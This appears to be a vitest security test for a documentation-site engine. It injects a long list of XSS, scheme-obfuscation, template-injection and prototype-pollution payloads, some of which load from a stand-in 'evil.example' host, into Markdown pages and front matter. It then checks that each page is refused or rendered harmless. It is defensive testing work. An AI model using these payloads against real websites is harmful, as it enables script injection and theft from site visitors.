// Pages that try to run something, load something, or break out of their place: each is refused in a sentence, or
// built as HTML that holds nothing but what the engine writes.
import { existsSync, rmSync } from 'node:fs';
import path from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { checkBuiltHtml } from '../support/check-built-html.ts';
import { checkBuiltLinks } from '../support/check-built-links.ts';
import { elementsOf } from '../support/html-elements.ts';
import { createSiteFolder, type Files } from '../support/site-folder.ts';
import { createRandom, tries } from './attack.ts';

const COUNT = tries({ short: 160, full: 900 });

/** Each calls `hit` or asks `evil.example`, where it can. */
const PAYLOADS = [
  ...[
    '<script>hit()</script>',
    '<ScRiPt src=//evil.example></ScRiPt >',
    '<script/x>hit()</script>',
  ],
  ...['<img src=x onerror=hit()>', '<svg onload=hit()>', '<svg><script>hit()</script></svg>'],
  ...[
    '<iframe srcdoc="<script>hit()</script>">',
    '<object data=//evil.example>',
    '<embed src=//evil.example>',
  ],
  ...['<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=//evil.example">'],
  ...['<link rel=stylesheet href=//evil.example>', '<style>@import "//evil.example"</style>'],
  ...[
    '<form action=//evil.example><button>',
    '<a href="javascript:hit()">x</a>',
    '<body onload=hit()>',
  ],
  ...[
    '<kbd onclick=hit()>x</kbd>',
    '<abbr title="x" onmouseover="hit()">x</abbr>',
    '<details ontoggle=hit() open>',
  ],
  ...[
    '<math><mi xlink:href="javascript:hit()">',
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  ],
  ...[
    '</title><script>hit()</script>',
    '</script><script>hit()</script>',
    '</textarea><img src=x onerror=hit()>',
  ],
  ...[
    '--><script>hit()</script>',
    ']]><script>hit()</script>',
    '<!--><img src=x onerror=hit()>-->',
  ],
  ...[
    '" onmouseover="hit()" x="',
    "' onmouseover='hit()' x='",
    '` onmouseover=hit() `',
    '"><img src=x onerror=hit()>',
  ],
  ...[
    'javascript:hit()',
    'JaVaScRiPt:hit()',
    'java\tscript:hit()',
    'java&#10;script:hit()',
    '&#106;avascript:hit()',
  ],
  ...[
    'data:text/html,<script>hit()</script>',
    'vbscript:hit()',
    '//evil.example/x',
    '\\\\evil.example\\x',
  ],
  ...[
    'https:evil.example',
    'http:/\\evil.example',
    '\u0001javascript:hit()',
    'javascript\u2028:hit()',
  ],
  ...[
    '{{constructor.constructor("hit()")()}}',
    '$' + '{hit()}',
    '{hit()}',
    '<%= hit() %>',
    '#{hit()}',
    '{Product}<script>',
  ],
  ...[
    '\u202e<script>hit()</script>',
    '\u0000<script>hit()</script>',
    '＜script＞hit()＜/script＞',
    '<\u0000script>hit()',
  ],
  ...[
    'x" style="background:url(//evil.example)',
    'expression(hit())',
    'url(javascript:hit())',
    '<x y=`"`onclick=hit()>',
  ],
  ...[
    '__proto__',
    'constructor',
    '\ufeff<img src=x onerror=hit()>',
    '%3Cscript%3Ehit()%3C/script%3E',
    '\\"-hit()-\\"',
  ],
];

const yaml = (text: string) => JSON.stringify(text);
const one = (text: string) => text.replace(/[\n\r]/g, ' ');

/** Where a payload may be: front matter and body of a page. */
const PLACES: ((x: string) => { head?: string; body?: string })[] = [
  (x) => ({ body: x }),
  (x) => ({ body: `A paragraph ${x} goes on.` }),
  (x) => ({ body: `## ${one(x)}\n\nText.` }),
  (x) => ({ body: `## Heading {#${one(x)}}\n\nText.` }),
  (x) => ({ body: `[words](${x})` }),
  (x) => ({ body: `[words](<${one(x)}>)` }),
  (x) => ({ body: `[${x}](index)` }),
  (x) => ({ body: `[words](index "${x}")` }),
  (x) => ({ body: `[words][r]\n\n[r]: ${one(x)} "${one(x)}"` }),
  (x) => ({ body: `<${one(x)}>` }),
  (x) => ({ body: `![${x}](dot.png)` }),
  (x) => ({ body: `![words](${one(x)})` }),
  (x) => ({ body: `![words](dot.png "${x}")` }),
  (x) => ({ body: `\`\`\`${one(x)}\ncode\n\`\`\`` }),
  (x) => ({ body: `\`\`\`js title="${one(x)}"\n${x}\n\`\`\`` }),
  (x) => ({ body: `\`\`\`html\n${x}\n\`\`\`` }),
  (x) => ({ body: `Text \`${one(x)}\` in code.` }),
  (x) => ({ body: `:::note ${one(x)}\n${x}\n:::` }),
  (x) => ({ body: `:::details[${one(x)}]\n${x}\n:::` }),
  (x) => ({ body: `<details><summary>${one(x)}</summary>\n\n${x}\n\n</details>` }),
  (x) => ({ body: `::::tabs{group=${one(x)}}\n:::tab[${one(x)}]\n${x}\n:::\n::::` }),
  (x) => ({ body: `:::cards\n::card[${one(x)}]{to=index description="${one(x)}"}\n:::` }),
  (x) => ({ body: `:::cards\n::card[Words]{to="${one(x)}" icon="${one(x)}"}\n:::` }),
  (x) => ({ body: `:::figure[${one(x)}]\n![words](dot.png)\n:::` }),
  (x) => ({ body: `::video{youtube="${one(x)}" title="${one(x)}"}` }),
  (x) => ({ body: `::video{youtube=abcdefghijk title="${one(x)}"}` }),
  (x) => ({ body: `::include{part.md words="${one(x)}"}` }),
  (x) => ({ body: `::include{${one(x)}}` }),
  (x) => ({ body: `| a | ${one(x)} |\n| - | - |\n| b {#${one(x)}} | ${one(x)} |` }),
  (x) => ({ body: `Text[^1].\n\n[^1]: ${one(x)}` }),
  (x) => ({ body: `Text[^${one(x)}].\n\n[^${one(x)}]: Note.` }),
  (x) => ({ body: `- [x] ${one(x)}\n- [ ] ${one(x)}` }),
  (x) => ({
    body: `\`\`\`mermaid alt="${one(x)}"\nflowchart LR\n  a["${one(x)}"] -->|${one(x)}| b\n\`\`\``,
  }),
  (x) => ({
    body: `\`\`\`mermaid alt="x"\nflowchart LR\n  a --> b\n  click a "${one(x)}"\n  style a fill:${one(x)}\n\`\`\``,
  }),
  (x) => ({ body: `\`\`\`mermaid alt="x"\nsequenceDiagram\n  A->>B: ${one(x)}\n\`\`\`` }),
  (x) => ({ body: `<abbr title="${one(x)}">x</abbr> <kbd>${one(x)}</kbd>` }),
  (x) => ({ body: `:platform[${one(x)}] ::tool{name="${one(x)}"} ::widget{name="${one(x)}"}` }),
  (x) => ({ body: `::gallery{category="${one(x)}"}\n\n::filter{groups}` }),
  (x) => ({ body: `> ${one(x)}\n\n1. ${one(x)}\n\n***${one(x)}***` }),
  (x) => ({ head: `title: ${yaml(x)}` }),
  (x) => ({ head: `description: ${yaml(x)}` }),
  (x) => ({ head: `sidebar_label: ${yaml(x)}\nkeywords: [${yaml(x)}]` }),
  (x) => ({ head: `deprecated: ${yaml(x)}\nlast_update: ${yaml(x)}` }),
  (x) => ({ head: `deprecated: ${yaml(x)}` }),
];

function toPage({ head = '', body = 'Text.' }: { head?: string; body?: string }): string {
  const own = (key: string) => head.startsWith(`${key}:`);
  const lines = [
    ...(own('title') ? [] : ['title: Hostile']),
    ...(own('description') ? [] : ['description: What it is about, in one sentence.']),
    ...(head ? [head] : []),
  ];
  return `---\n${lines.join('\n')}\n---\n\n${body}\n`;
}

/** Every place and every payload occurs; which of them meet is a matter of chance. */
function hostilePages(): Files {
  const random = createRandom('content');
  const files: Files = {};
  const places = random.shuffle(PLACES);
  const payloads = random.shuffle(PAYLOADS);
  for (let i = 0; i < COUNT; i++) {
    const place = places[i % places.length];
    const payload = i < payloads.length ? payloads[i] : random.pick(payloads);
    files[`content/pages/hostile/${i}.md`] = toPage(place?.(payload ?? '') ?? {});
  }
  return files;
}

const folder = createSiteFolder({
  'site.config.json': '{ "base": "/docs/", "editUrl": "https://code.example/{path}" }',
  'content/pages/index.md': toPage({}),
  'content/snippets/part.md': '---\nparams: [words]\n---\nThe {words} and [{words}](index).\n',
  'content/images/dot.png': Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAIAAAADCAIAAAA2iEnWAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg==',
    'base64',
  ),
  ...hostilePages(),
});
afterAll(() => folder.dispose());

/** Takes away the pages that are refused, until the rest can be built. @returns how many were. */
function removeRefused(): number {
  let removed = 0;
  for (let round = 0; round < 5; round++) {
    const { status, text } = folder.learn('check');
    expect(text).not.toContain('fault of the engine');
    expect(text).not.toMatch(/\n {4}at /);
    if (status === 0) return removed;
    const names = new Set(
      [...text.matchAll(/^(content\/pages\/hostile\/\d+\.md):\d+:\d+ {2}error/gm)].map(
        ([, at]) => at,
      ),
    );
    const errors = text.split(/\n\n(?=\S)/).filter((block) => block.includes('  error  '));
    expect(names.size, errors.join('\n\n').slice(0, 2_000) || text.slice(-500)).toBeGreaterThan(0);
    for (const name of names) rmSync(path.join(folder.dir, name ?? ''));
    removed += names.size;
  }
  throw new Error('Some page is refused again and again.');
}

const OUR_ELEMENTS =
  /^(?:html|head|body|meta|title|link|script|header|nav|main|footer|article|section|aside|div|p|h[1-6]|a|span|ul|ol|li|dl|dt|dd|table|thead|tbody|tr|th|td|caption|pre|code|kbd|sub|sup|i|br|wbr|hr|abbr|mark|small|ins|del|dfn|samp|var|q|em|strong|s|blockquote|details|summary|figure|figcaption|img|button|input|label|form|time|template|dialog|select|option|output|svg|g|path|rect|circle|ellipse|line|polyline|polygon|text|tspan|defs|marker|search)$/;

/** What no page of ours holds, whoever wrote it. */
function dangers(html: string): string[] {
  return elementsOf(html).flatMap(({ tag, attributes }) => [
    ...(OUR_ELEMENTS.test(tag) ? [] : [`<${tag}>`]),
    ...[...attributes].flatMap(([name, value]) => {
      if (/^on|^style$|^srcdoc$|^formaction$|^xlink:/.test(name)) return [`${name}= on <${tag}>`];
      const loads = /^(?:src|srcset|href|action|poster|data)$/.test(name);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers pass over them in a scheme.
      const bare = value.replace(/[\u0000-\u0020]/g, '');
      if (loads && /^(?:javascript|vbscript|data:text)/i.test(bare)) return [`${name}=${value}`];
      if (loads && tag !== 'a' && tag !== 'link' && /^(?:https?:)?[\\/]{2}/i.test(bare))
        return [`<${tag} ${name}=${value}>`];
      return [];
    }),
  ]);
}

it('hostile pages are refused in a sentence, or built harmless', () => {
  const refused = removeRefused();
  const { status, text } = folder.learn('build');
  expect(status, text.slice(-2_000)).toBe(0);
  const output = folder.output();
  const pages = [...output].filter(([name]) => /^hostile\/\d+\/index\.html$/.test(name));
  expect(pages).toHaveLength(COUNT - refused);
  expect(pages.length).toBeGreaterThan(COUNT / 2);
  const wrong = [...output]
    .filter(([name]) => name.endsWith('.html'))
    .flatMap(([name, html]) => dangers(html).map((danger) => `${name}: ${danger}`));
  expect(wrong).toEqual([]);
  expect(checkBuiltHtml(output)).toEqual([]);
  // In Markdown, what looks like a link may be text.
  expect(checkBuiltLinks(output).filter((one) => !/^[^:]+\.md:/.test(one))).toEqual([]);
  expect(existsSync(path.join(folder.dir, 'dist/_server.json'))).toBe(true);
});

it('would find what is harmful', () => {
  expect(dangers('<p onclick="hit()">x</p>')).toHaveLength(1);
  expect(dangers('<a href="java\tscript:hit()">x</a>')).toHaveLength(1);
  expect(dangers('<iframe></iframe><img src="//evil.example">')).toHaveLength(2);
});
